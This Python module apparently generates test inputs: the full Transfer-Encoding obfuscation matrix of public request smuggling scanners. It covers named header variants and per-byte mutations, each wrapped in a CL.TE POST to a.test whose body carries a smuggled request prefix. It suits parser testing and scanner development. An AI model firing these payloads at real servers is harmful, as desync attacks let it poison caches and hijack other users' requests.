"""The Transfer-Encoding mutation matrix of the public smuggling scanners, generated.

The gadgets follow defparam/smuggler (``configs/exhaustive.py`` and ``configs/default.py``),
which itself follows the permutations of PortSwigger's HTTP Request Smuggler: the header
``Transfer-Encoding: chunked`` bent by case, whitespace, control and non-ASCII bytes placed
before, inside and after the name and value, folded or joined onto a neighbouring line.

Every gadget goes into a request that also carries ``Content-Length``, in two places (first
field, before Host; last field, after Content-Length), with a body that means different things
under the two framings: 6 bytes by Content-Length, an empty chunked body plus a stray ``G``
(the start of a smuggled request) by Transfer-Encoding.
"""

from __future__ import annotations

BODY = b"0\r\n\r\nG"
TE = b"Transfer-Encoding"

NAMED: dict[str, bytes] = {
    "nameprefix1": b" Transfer-Encoding: chunked",
    "tabprefix1": b"Transfer-Encoding:\tchunked",
    "tabprefix2": b"Transfer-Encoding\t:\tchunked",
    "spacejoin1": b"Transfer Encoding: chunked",
    "underjoin1": b"Transfer_Encoding: chunked",
    "smashed": b"Transfer Encoding:chunked",
    "space1": b"Transfer-Encoding : chunked",
    "valueprefix1": b"Transfer-Encoding:  chunked",
    "vertprefix1": b"Transfer-Encoding:\x0bchunked",
    "commaCow": b"Transfer-Encoding: chunked, cow",
    "cowComma": b"Transfer-Encoding: cow, chunked",
    "contentEnc": b"Content-Encoding: chunked",
    "linewrapped1": b"Transfer-Encoding:\n chunked",
    "linewrapped2": b"Transfer-Encoding:\r\n chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "aposed": b"Transfer-Encoding: 'chunked'",
    "lazygrep": b"Transfer-Encoding: chunk",
    "sarcasm": b"TrAnSFer-EnCODinG: cHuNkeD",
    "yelling": b"TRANSFER-ENCODING: CHUNKED",
    "0dsuffix": b"Transfer-Encoding: chunked\r",
    "tabsuffix": b"Transfer-Encoding: chunked\t",
    "revdualchunk": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "dualchunk": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "0dspam": b"Transfer\r-Encoding: chunked",
    "nested": b"Transfer-Encoding: cow chunked bar",
    "spaceFF": b"Transfer-Encoding:\xffchunked",
    "accentCH": b"Transfer-Encoding: ch\x96nked",
    "accentTE": b"Transf\x82r-Encoding: chunked",
    "x-rout": b"X:X\rTransfer-Encoding: chunked",
    "x-nout": b"X:X\nTransfer-Encoding: chunked",
    "identity": b"Transfer-Encoding: identity",
    "gzip-chunked": b"Transfer-Encoding: gzip, chunked",
    "chunked-comma": b"Transfer-Encoding: chunked,",
    "comma-chunked": b"Transfer-Encoding: ,chunked",
}
# The bytes the default scan tries in the positions that join onto a neighbouring "X: X" line.
DEFAULT_BYTES = (0x01, 0x04, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0xA0, 0xFF)
# The exhaustive scan: every control, space and non-ASCII byte in the four name/value positions.
EXHAUSTIVE_BYTES = (*range(0x00, 0x21), *range(0x7F, 0x100))


def gadgets(exhaustive: bool = True) -> dict[str, bytes]:
    out = dict(NAMED)
    for i in EXHAUSTIVE_BYTES if exhaustive else DEFAULT_BYTES:
        c = bytes([i])
        out[f"midspace-{i:02x}"] = TE + b":" + c + b"chunked"
        out[f"postspace-{i:02x}"] = TE + c + b": chunked"
        out[f"prespace-{i:02x}"] = c + TE + b": chunked"
        out[f"endspace-{i:02x}"] = TE + b": chunked" + c
    for i in DEFAULT_BYTES:
        c = bytes([i])
        out[f"xprespace-{i:02x}"] = b"X: X" + c + TE + b": chunked"
        out[f"endspacex-{i:02x}"] = TE + b": chunked" + c + b"X: X"
        out[f"rxprespace-{i:02x}"] = b"X: X\r" + c + TE + b": chunked"
        out[f"xnprespace-{i:02x}"] = b"X: X" + c + b"\n" + TE + b": chunked"
        out[f"endspacerx-{i:02x}"] = TE + b": chunked\r" + c + b"X: X"
        out[f"endspacexn-{i:02x}"] = TE + b": chunked" + c + b"\nX: X"
    return out


def request(gadget: bytes, first: bool) -> bytes:
    """A POST carrying ``gadget`` and ``Content-Length``; ``Connection: close`` ends it."""
    cl = b"Content-Length: %d\r\n" % len(BODY)
    fields = (
        [gadget + b"\r\n", b"Host: a.test\r\n", cl]
        if first
        else [b"Host: a.test\r\n", cl, gadget + b"\r\n"]
    )
    return b"POST /echo HTTP/1.1\r\n" + b"".join(fields) + b"Connection: close\r\n\r\n" + BODY


def matrix(exhaustive: bool = True) -> list[tuple[str, bytes]]:
    return [
        (f"{name}-{where}", request(g, where == "first"))
        for name, g in gadgets(exhaustive).items()
        for where in ("first", "last")
    ]
